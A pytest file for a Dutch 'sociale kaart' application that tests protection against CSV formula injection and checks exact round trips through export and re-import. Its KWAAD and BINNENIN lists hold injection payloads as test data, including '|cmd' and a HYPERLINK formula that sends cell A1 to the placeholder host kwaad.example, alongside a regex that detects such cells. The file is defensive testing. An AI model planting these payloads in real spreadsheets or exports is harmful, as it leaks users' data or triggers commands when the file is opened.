"""A CSV that a person opens calculates nothing, whatever was written in it, and comes back in unchanged."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from opslag.db import Base, Database, make_engine
from sociale_kaart import exports, queries
from sociale_kaart.imports import ImportUitslag, import_file
from sociale_kaart.rekenblad import markeer, zonder_mark
from tests.sociale_kaart.bouwers import csv_tekst, velden
from werkgebied import Werkgebied

KWAAD = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\ufeff=1", "\u00a0+1", "|cmd", "%0A", "\uff1d1+1",
    "'=1", "''=1", '=HYPERLINK("https://kwaad.example/?"&A1;"klik")', "+31 72 000 0101",
]  # fmt: skip
BINNENIN = ["a;=1", "a,=1", 'a"=1', "a\t=1", "a\r\n=1", "a\n-1", "a; +1", "a,'=1", ',,=1";+1']
# What a spreadsheet with any of these delimiters, or one that minds no quotes, may take for the beginning of a cell.
BEGINT = re.compile('(?:^|[,;\t\r\n"])[ \u00a0\u200b\ufeff]*[=+\\-@\uff1d\uff0b\uff0d\uff20]')


@pytest.mark.parametrize("tekst", KWAAD + BINNENIN)
def test_text_that_would_be_calculated_is_marked_and_can_be_had_back(tekst: str) -> None:
    assert not BEGINT.search(markeer(tekst))
    assert zonder_mark(markeer(tekst)) == tekst


@pytest.mark.parametrize("tekst", ["", "Taalhuis", "a=1", "ma-vr 09:00-12:30,13:30-17:00", "'s avonds", "072 000 0101"])
def test_ordinary_text_stays_as_it_is(tekst: str) -> None:
    assert markeer(tekst) == tekst == zonder_mark(tekst)


@settings(max_examples=400, deadline=None, derandomize=True)
@given(st.text(st.sampled_from("=+-@'\" ,;\t\r\n|%a\u00a0\uff1d"), max_size=12))
def test_no_text_escapes_and_each_can_be_had_back(tekst: str) -> None:
    gemarkeerd = markeer(tekst)
    assert zonder_mark(gemarkeerd) == tekst
    assert not BEGINT.search(gemarkeerd)
    assert not gemarkeerd.startswith(("\t", "\r"))


def _lees_in(db: Database, pad: Path, gebied: Werkgebied) -> ImportUitslag:
    with db.session_scope() as session:
        return import_file(session, pad, werkgebied=gebied)


def _lees_uit(db: Database) -> tuple[str, str]:
    """The kaart literally, and as people get it."""
    with db.lezen() as session:
        return "".join(exports.export_csv(session)), "".join(exports.export_rekenblad(session))


def _schrijf(pad: Path, tekst: str) -> Path:
    pad.write_text(tekst, encoding="utf-8", newline="")
    return pad


def _lege_database(pad: Path) -> Database:
    engine = make_engine(f"sqlite:///{pad}")
    Base.metadata.create_all(engine)
    return Database(engine)


def _rondreis(map_: Path, teksten: Iterable[str], gebied: Werkgebied) -> tuple[str, str, str]:
    """Literal before, as people get it, and literal after that was brought in somewhere else."""
    rijen = [velden(id=f"e{n}", omschrijving=t, doelgroep=t, **{"=extra": t}) for n, t in enumerate(teksten)]
    een, ander = _lege_database(map_ / "een.db"), _lege_database(map_ / "ander.db")
    assert _lees_in(een, _schrijf(map_ / "bron.csv", csv_tekst(*rijen, extra=("=extra",))), gebied).fouten == []
    voor, mensen = _lees_uit(een)
    assert _lees_in(ander, _schrijf(map_ / "mensen.csv", mensen), gebied).fouten == []
    na, _ = _lees_uit(ander)
    een.close()
    ander.close()
    return voor, mensen, na


def test_the_kaart_for_people_calculates_nothing_and_comes_back_exactly(tmp_path: Path, gebied: Werkgebied) -> None:
    voor, mensen, na = _rondreis(tmp_path, KWAAD + BINNENIN, gebied)
    assert voor == na
    cellen = [
        c for rij in csv.reader(io.StringIO(mensen.removeprefix("\ufeff"), newline=""), delimiter=";") for c in rij
    ]
    assert "'+31 72 000 0101" in cellen
    assert not [c for c in cellen if BEGINT.search(c)]


_TEKST = st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00"), max_size=20)


@settings(max_examples=15, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(teksten=st.lists(_TEKST, max_size=4))
def test_whatever_is_written_the_kaart_for_people_comes_back_exactly(
    teksten: list[str], tmp_path_factory: pytest.TempPathFactory, gebied: Werkgebied
) -> None:
    voor, _, na = _rondreis(tmp_path_factory.mktemp("rekenblad"), teksten, gebied)
    assert voor == na


def test_the_literal_export_has_no_mark_and_a_phone_number_abroad_stays_one(
    sqlite_db: Database, tmp_path: Path, gebied: Werkgebied
) -> None:
    bron = csv_tekst(velden(telefoon="+31 72 000 0201", omschrijving="=1+1"))
    assert _lees_in(sqlite_db, _schrijf(tmp_path / "bron.csv", bron), gebied).fouten == []
    assert _lees_uit(sqlite_db)[0] == bron


def test_a_row_that_was_added_by_hand_is_taken_as_it_stands(
    sqlite_db: Database, tmp_path: Path, gebied: Werkgebied
) -> None:
    rijen = [velden(id="a", omschrijving="'=1", rekenblad="veilig"), velden(id="b", omschrijving="'=1", rekenblad="")]
    assert (
        _lees_in(sqlite_db, _schrijf(tmp_path / "k.csv", csv_tekst(*rijen, extra=("rekenblad",))), gebied).fouten == []
    )
    with sqlite_db.lezen() as session:
        gelezen = {v.id: (v.omschrijving, v.extra) for v in queries.read_all(session)}
    assert gelezen == {"a": ("=1", {}), "b": ("'=1", {})}


def test_another_word_in_the_column_of_the_mark_is_refused(
    sqlite_db: Database, tmp_path: Path, gebied: Werkgebied
) -> None:
    bron = csv_tekst(velden(rekenblad="ja"), extra=("rekenblad",))
    (fout,) = _lees_in(sqlite_db, _schrijf(tmp_path / "k.csv", bron), gebied).fouten
    assert (fout.rij, fout.kolom) == (2, "rekenblad")
